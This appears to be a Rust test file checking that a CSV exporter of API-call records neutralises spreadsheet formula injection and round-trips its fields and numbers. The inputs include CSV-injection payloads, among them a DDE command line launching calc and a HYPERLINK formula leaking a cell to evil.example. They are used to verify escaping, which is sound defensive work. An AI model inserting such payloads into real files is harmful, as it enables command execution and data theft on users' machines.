//! CSV: what a spreadsheet shows of calls.

use csv_core::{ReadRecordResult, Reader};
use proptest::collection::vec;
use proptest::prelude::*;
use sluice::export::csv::{COLUMNS, CsvWriter};
use sluice::redact::Redactor;
use sluice::usage::{CallRecord, CountsAs, Money};

use super::arbitrary::call;
use super::golden;

fn file(calls: &[CallRecord], cost: Option<Money>) -> String {
    let redactor = Redactor::default();
    let mut writer = CsvWriter::new(&redactor);
    let rows: String = calls.iter().map(|call| writer.call(call, cost)).collect();
    writer.head() + &rows + &writer.tail()
}

/// The cells of a file, read by another's reader.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut reader, mut rest, mut rows) = (Reader::new(), text.as_bytes(), Vec::new());
    loop {
        let (mut out, mut ends) = (vec![0; text.len() + 1], [0; 64]);
        let (result, read, _, count) = reader.read_record(rest, &mut out, &mut ends);
        rest = &rest[read..];
        match result {
            ReadRecordResult::End => return rows,
            ReadRecordResult::Record => {
                let starts = std::iter::once(0).chain(ends);
                let cells = starts.zip(ends).take(count).map(|(from, to)| &out[from..to]);
                rows.push(cells.map(|cell| String::from_utf8(cell.to_vec()).unwrap()).collect());
            }
            // The end of the text is told by an empty one.
            ReadRecordResult::InputEmpty => assert!(rest.is_empty()),
            other => panic!("{other:?}"),
        }
    }
}

/// Takes off the guard as a reader outside would, who knows only that it is one quote before what needs it.
fn without_guard(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Whether a spreadsheet could take a cell for more than text: the rule of OWASP's page on CSV injection.
fn runs(cell: &str) -> bool {
    let blank = |c: char| c.is_whitespace();
    let first = cell.trim_start_matches(blank).chars().next();
    let lead = &cell[..cell.len() - cell.trim_start_matches(blank).len()];
    first.is_some_and(|first| "=+-@＝＋－＠".contains(first)) || lead.contains(['\t', '\r', '\n'])
}

#[test]
fn formulas_come_out_inert_and_read_back() {
    let texts = [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "  =1",
        "\u{a0}=1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"a\")",
        "a\n=1",
        "\",=1",
        "'=1",
        "'tis",
    ];
    for text in texts {
        let mut made = golden::calls().remove(0);
        made.label = text.to_owned();
        let rows = cells(&file(&[made], None));
        let cell = &rows[1][7];
        assert!(!runs(cell), "{cell:?}");
        let is_guarded = cell.len() > text.len();
        assert_eq!(if is_guarded { without_guard(cell) } else { cell.as_str() }, text);
        assert_eq!(is_guarded, runs(text) || text == "'=1", "{text:?}");
    }
}

proptest! {
    #[test]
    fn every_file_reads_back_into_the_same_texts(calls in vec(call(), 0..4)) {
        let rows = cells(&file(&calls, None));
        prop_assert_eq!(&rows[0], &COLUMNS);
        prop_assert_eq!(rows.len(), calls.len() + 1);
        for (call, row) in calls.iter().zip(&rows[1..]) {
            prop_assert_eq!(row.len(), COLUMNS.len());
            prop_assert_eq!(&row[0], &call.id.to_string());
            for (text, cell) in [(&call.server, &row[4]), (&call.model, &row[6]), (&call.label, &row[7])] {
                prop_assert!(cell == text || (without_guard(cell) == text && cell.starts_with('\'')), "{:?}", cell);
                prop_assert!(!runs(cell), "{:?}", cell);
            }
            // Numbers of the page's own are numbers to a spreadsheet.
            for cell in row[9..21].iter().filter(|cell| !cell.is_empty()) {
                prop_assert!(cell.parse::<f64>().is_ok(), "{:?}", cell);
            }
        }
    }
}

#[test]
fn numbers_are_exact_and_what_is_unknown_is_empty() {
    let mut calls = golden::calls();
    let rows = cells(&file(&calls, Some(Money::from_picodollars(20_600_000))));
    let expected = [
        "00000000000000000000000000000001",
        "2026-11-26T09:30:00.123Z",
        "Burst",
        "Live",
        "https://api.openai.com/v1",
        "work",
        "gpt-5-nano",
        "Request 1",
        "succeeded",
        "200",
        "2",
        "1",
        "0",
        "11",
        "0",
        "7",
        "0",
        "18",
        "0.0000206",
        "21234.567",
        "20250.2",
        "req_2",
    ];
    assert_eq!(rows[1], expected);
    // The one whose answer the browser hid, and the one that was stopped in flight.
    assert_eq!(rows[3][8..19], ["failed", "", "1", "0", "1", "", "", "", "", "", "0.0000206"]);
    assert_eq!(rows[4][8..14], ["stopped", "", "1", "0", "1", ""]);
    // A response without usage has tokens that nobody knows.
    assert_eq!(rows[5][13..18], ["", "", "", "", ""]);
    let usage = calls[0].attempts[1].counts_as.clone();
    calls[0].attempts[0].counts_as = usage;
    assert_eq!(cells(&file(&calls, None))[1][17..19], ["36", ""]);
    calls[0].attempts[0].counts_as = Some(CountsAs::NoUsage);
    assert_eq!(cells(&file(&calls, None))[1][17], "");
}
